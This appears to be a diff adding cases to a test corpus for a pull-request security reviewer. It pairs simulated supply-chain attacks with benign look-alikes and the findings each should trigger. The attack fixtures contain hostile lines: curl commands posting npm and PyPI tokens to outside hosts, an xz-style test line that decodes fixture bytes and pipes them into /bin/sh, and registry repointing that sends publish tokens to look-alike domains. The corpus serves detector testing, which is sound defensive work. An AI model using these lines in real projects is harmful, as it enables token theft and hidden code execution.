@@ -1025,6 +1025,35 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-postpublish-script-posts-token',
+    description:
+      'GhostAction moved out of the workflow: a "report publish stats" PR adds a postpublish script to package.json that posts $NODE_AUTH_TOKEN, the npm token the release job publishes with, to a stats host; the workflow is untouched and nothing names npm\'s secret.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7391,
+        title: 'chore: report publish stats',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run' } }), head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run', postpublish: 'curl -s -X POST https://stats.pkg-insights.dev/publish -d "v=$npm_package_version&k=$NODE_AUTH_TOKEN" >/dev/null || true' } }) },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-ghostaction-shell-script-posts-token',
+    description: 'The same theft in a shell script the release calls: scripts/notify-release.sh posts $PYPI_API_TOKEN in the body of a request to a metrics host, beside an ordinary Slack notification.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7392,
+        title: 'ci: notify on release',
+        author: 'newcomer',
+        files: [{ path: 'scripts/notify-release.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'curl -s -X POST -H "Content-type: application/json" --data "{\\"text\\":\\"released $VERSION\\"}" "$SLACK_WEBHOOK_URL"', 'curl -s --data "p=$PYPI_API_TOKEN&v=$VERSION" https://release-metrics.pages-stats.dev/c >/dev/null') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-ghostaction-inline-python-own-service',
     description:
       "A maintainer's release workflow checks the npm token with a `python3 -c` call to the registry's whoami endpoint (the token in the Authorization header) and posts the release to a status page with the page's own API key in its headers: secrets sent as the credentials of their own services.",
@@ -1409,6 +1438,37 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-test-script-unpacks-fixture-into-shell',
+    description:
+      'The xz-utils stage (CVE-2024-3094) moved from a build macro to a test script: an "add corrupted-stream test" PR adds a binary fixture and a line to tests/run.sh that cuts bytes out of it, maps them back with a tr substitution, decompresses them with xz and pipes the result into /bin/sh; the code that runs is in no file a reviewer reads.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 7411,
+        title: 'test: add corrupted-stream fixture',
+        author: 'newcomer',
+        files: [
+          { path: 'tests/run.sh', base: lines('#!/bin/sh', 'set -e', './test_codec tests/files'), head: lines('#!/bin/sh', 'set -e', './test_codec tests/files', 'head -c 4096 tests/files/bad-3-corrupt.lzma | tail -c 2048 | tr "\\5-\\51\\204-\\377\\52-\\115" "\\0-\\377" | xz -F raw --lzma1 -dc 2>/dev/null | /bin/sh') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'benign-test-script-restores-compressed-dump',
+    description: 'The benign look-alike: a maintainer\'s test script loads a compressed SQL dump into the test database (gunzip into psql) and unpacks a fixture archive with tar: data unpacked into tools that read it, nothing run as code.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 7412,
+        title: 'test: load the fixture database',
+        author: 'member',
+        files: [
+          { path: 'tests/run.sh', base: lines('#!/bin/sh', 'set -e', './test_codec tests/files'), head: lines('#!/bin/sh', 'set -e', 'gunzip -c tests/files/fixture.sql.gz | psql "$TEST_DATABASE_URL"', 'tar -xJf tests/files/corpus.tar.xz -C "$TMPDIR"', './test_codec tests/files') },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve' },
   },
   {
     id: 'attack-landlock-check-stray-dot',
@@ -2766,6 +2826,89 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed', 'build-code-behavior'] },
+  },
+  {
+    id: 'attack-release-script-file-token-to-mirror',
+    description:
+      'The npm-token redirect split across files (the September 2025 phishing wave wanted npm publish tokens): the base\'s release workflow runs `npm run release` with NODE_AUTH_TOKEN set from secrets.NPM_TOKEN and stays untouched; a "move release to a script" PR changes the release script to run scripts/release.mjs, which writes an .npmrc auth line for another host from process.env.NODE_AUTH_TOKEN. Neither file names npm\'s token, the workflow does.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7661,
+        title: 'chore: move release steps to a script',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && npm publish' } }), head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && node scripts/release.mjs' } }) },
+          {
+            path: 'scripts/release.mjs',
+            head: lines("import { writeFileSync } from 'node:fs';", "import { execSync } from 'node:child_process';", '', "writeFileSync('.npmrc', `//npm.release-cache.dev/:_authToken=${process.env.NODE_AUTH_TOKEN}\\nregistry=https://npm.release-cache.dev/\\n`);", "execSync('npm publish --access public', { stdio: 'inherit' });"),
+          },
+        ],
+        baseFiles: { '.github/workflows/release.yml': lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '      - run: npm ci', '      - run: npm run release', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}') },
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
+  },
+  {
+    id: 'benign-release-script-private-registry-own-secret',
+    description:
+      'The benign look-alike: the same base workflow gives NODE_AUTH_TOKEN the company registry\'s own secret (secrets.ACME_REGISTRY_TOKEN), and a maintainer changes the release script to write the auth line for that registry and publish there: a private registry with its own token.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7662,
+        title: 'chore: publish to the company registry',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: '@acme/tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && npm publish' } }), head: packageJson({ name: '@acme/tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && echo "//npm.acme-corp.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish --registry https://npm.acme-corp.dev/' } }) },
+        ],
+        baseFiles: { '.github/workflows/release.yml': lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm run release', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.ACME_REGISTRY_TOKEN }}') },
+      }),
+    expect: { level: 'low', action: 'approve' },
+  },
+  {
+    id: 'attack-publish-config-lookalike-registry',
+    description:
+      'The npm-token phishing domain in a manifest: a "chore: publish config" PR sets publishConfig.registry to registry.npmjs-help.org (the September 2025 phishing ran on npmjs.help): every later `npm publish` sends the package, and the publisher\'s token for that host, to a look-alike of the registry.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7665,
+        title: 'chore: publish config',
+        author: 'newcomer',
+        files: [{ path: 'package.json', base: packageJson({ name: '@acme/tint', version: '2.4.0' }), head: `${JSON.stringify({ name: '@acme/tint', version: '2.4.0', publishConfig: { registry: 'https://registry.npmjs-help.org/', access: 'public' } }, null, 2)}\n` }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-registry-override'] },
+  },
+  {
+    id: 'attack-cargo-index-repointed-release-unchanged',
+    description:
+      'The crates.io token redirect with the release workflow left alone: the base already publishes with `cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}` to an alias of crates.io\'s index; an "update the mirror" PR changes only .cargo/config.toml, re-pointing `[registries.fast]` at another host, and the next tag hands the token to it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7663,
+        title: 'chore: update the registry mirror',
+        author: 'member',
+        files: [{ path: '.cargo/config.toml', base: lines('[registries.fast]', 'index = "sparse+https://index.crates.io/"'), head: lines('[registries.fast]', 'index = "sparse+https://crates.fast-mirror.dev/index/"') }],
+        baseFiles: { '.github/workflows/release.yml': lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}') },
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-release-script-node-auth-token-lookalike',
+    description:
+      'The npm-token phishing host in a package script: a "tidy release script" PR writes the auth line for registry.npmjs-cdn.org from $NODE_AUTH_TOKEN, the variable setup-node and release jobs keep the npm token in; the name is no registry\'s, the host is spelled like npm\'s.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7664,
+        title: 'chore: tidy release script',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && npm publish' } }), head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && echo "//registry.npmjs-cdn.org/:_authToken=$NODE_AUTH_TOKEN" > .npmrc && npm publish' } }) },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
   },
   {
     id: 'attack-cargo-linker-by-name',
